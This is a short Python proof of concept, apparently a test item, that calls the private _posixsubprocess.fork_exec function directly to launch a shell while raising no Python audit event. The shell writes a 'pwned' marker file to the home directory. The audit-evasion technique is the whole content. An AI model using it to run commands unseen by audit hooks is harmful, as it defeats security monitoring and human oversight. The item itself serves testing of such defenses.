# where: import
# Start a process through the C function under subprocess, which raises no audit event.
import _posixsubprocess
import os

_home = os.path.expanduser("~")
_args = [b"/bin/sh", b"-c", f"echo pwned > {_home}/pwned.txt".encode()]
_head = [_args, [b"/bin/sh"], True, (), None, None, -1, -1, -1, -1, -1, -1, *os.pipe()]
# Python 3.11 and 3.12 take 23 arguments: setsid, pgid, gid, groups, uid, umask, preexec, vfork.
_pid = _posixsubprocess.fork_exec(
    *_head, False, False, -1, None, None, None, -1, None, False
)
os.waitpid(_pid, 0)
